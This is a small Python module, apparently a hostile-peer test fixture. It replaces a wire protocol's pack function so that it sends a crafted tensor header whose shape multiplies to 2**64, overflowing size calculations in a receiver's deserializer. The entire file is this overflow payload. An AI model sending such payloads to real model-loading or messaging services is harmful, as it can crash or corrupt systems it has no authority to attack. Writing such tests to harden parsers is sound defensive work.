"""It sends a tensor whose sizes multiply to 2**64, which is no byte at all where they are multiplied carelessly."""

import json
import struct
import framing
import wire
_pack = wire.pack
def pack(message):
    if message.get("value"):
        header = json.dumps({"t0": {"dtype": "F32", "shape": [2**31, 2**31, 4], "data_offsets": [0, 0]}}).encode()
        blob = struct.pack("<Q", len(header)) + header
        value = {"weights": {"fc1.weight": {"$tensor": "t0"}}, "mode": True}
        text = json.dumps({"nonce": message["nonce"], "value": value}).encode()
        return framing.HEADER.pack(framing.MAGIC, len(text), len(blob)) + text + blob
    return _pack(message)
wire.pack = pack
